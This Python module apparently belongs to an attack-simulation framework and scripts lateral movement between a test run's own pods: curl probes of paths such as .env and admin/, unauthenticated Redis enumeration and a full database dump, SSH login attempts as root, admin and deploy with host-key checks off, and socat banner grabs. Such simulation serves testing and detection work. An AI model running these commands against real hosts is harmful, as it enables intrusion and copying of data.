"""From one pod to the next: what answers is tried, and what opens is copied.

Owns: command lines of the tools and what they try. Refuses: any host but the run's pods and node, to change
anything there.
"""

from __future__ import annotations

from attacks.base import TELLING, AttackSpec, Hosts, Program, Scene, own, seed
from programs import require
from scenario import tool

PATHS = ("", "admin/", ".env", "metrics", "api/items", "private/", "server-status", "files/manual.pdf", "debug/vars")
PORTS = {"web": 80, "api": 8080, "db": 6379, "cache": 6379, "mail": 25, "logs": 514, "batch": 50_051}


def shell(scene: Scene, name: str, lines: list[str]) -> Program:
    """Somebody types commands, which the run must have."""
    require({line.split("|")[-1].split()[0] for line in lines} - {"sleep"})
    path = scene.folder / f"{name}-{seed(scene)}.sh"
    path.write_text("".join(f"{line}\n" for line in lines))
    return Program(("sh", str(path)))


def addresses(scene: Scene, pods: str) -> list[str]:
    """Pods by their names, `node` too."""
    return [scene.plan.node if pod == "node" else scene.plan.pod(pod) for pod in pods.split(",")]


@tool("lateral", "walk")
def walk(
    scene: Scene, _: AttackSpec, __: Hosts, *, pods: str, tries: int = 4, copies: int = 40, pause_s: float = 0.3
) -> list[Program]:
    """Our own intruder: looks at each host's ports, talks to what answers, copies what it can."""
    return [own(scene, "lateral.py", "--hosts", ",".join(addresses(scene, pods)), "--tries", tries, "--copies", copies,
                "--pause", pause_s, "--seed", seed(scene))]


@tool("lateral", "redis-cli")
def redis(
    scene: Scene, _: AttackSpec, __: Hosts, *, rounds: int, pause_s: float, dump: bool = True, pods: str = "db,cache"
) -> list[Program]:
    """A database without a password: asked who it is, read, and copied whole."""
    lines = []
    for _number in range(rounds):
        for address in addresses(scene, pods):
            for command in ("INFO server", "CONFIG GET dir", "DBSIZE", "SCAN 0 COUNT 200", "CLIENT LIST"):
                lines += [f"redis-cli -h {address} {command}", f"sleep {pause_s}"]
            lines += [f"redis-cli -h {address} --rdb copy.rdb"] if dump else []
    return [shell(scene, "redis", lines)]


@tool("lateral", "curl")
def curl(
    scene: Scene, _: AttackSpec, __: Hosts, *, pods: str, paths: int, pause_s: float, ports: str = "80,8080,9100"
) -> list[Program]:
    """Pages of other pods that are not for this one."""
    lines = []
    for address in addresses(scene, pods):
        for port in ports.split(","):
            for path in scene.rng.sample(PATHS, paths):
                asks = f"curl -s -m 3 -w '{TELLING[1]}' -o /dev/null"
                lines += [f"{asks} http://{address}:{port}/{path}", f"sleep {pause_s}"]
    return [shell(scene, "curl", lines)]


@tool("lateral", "ssh")
def ssh(
    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, pause_s: float, users: str = "root,admin,deploy"
) -> list[Program]:
    """A key that was found is tried on the node, for several users."""
    options = "-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=4"
    names = users.split(",")
    lines = ["ssh-keygen -q -t ed25519 -N '' -f found"]
    for number in range(tries):
        user = names[number % len(names)]
        lines += [f"ssh {options} -F /dev/null -i found {user}@{scene.plan.node} id", f"sleep {pause_s}"]
    return [shell(scene, "ssh", lines)]


@tool("lateral", "socat")
def socat(scene: Scene, _: AttackSpec, __: Hosts, *, pods: str, rounds: int, pause_s: float) -> list[Program]:
    """Bare connections to each pod's own service, some lines each."""
    lines = []
    for _number in range(rounds):
        for pod in pods.split(","):
            to = f"TCP:{scene.plan.pod(pod)}:{PORTS[pod]}"
            lines += [f"printf 'HELP\\r\\nINFO\\r\\nQUIT\\r\\n' | socat -d -d -t 2 - {to}", f"sleep {pause_s}"]
    return [shell(scene, "socat", lines)]
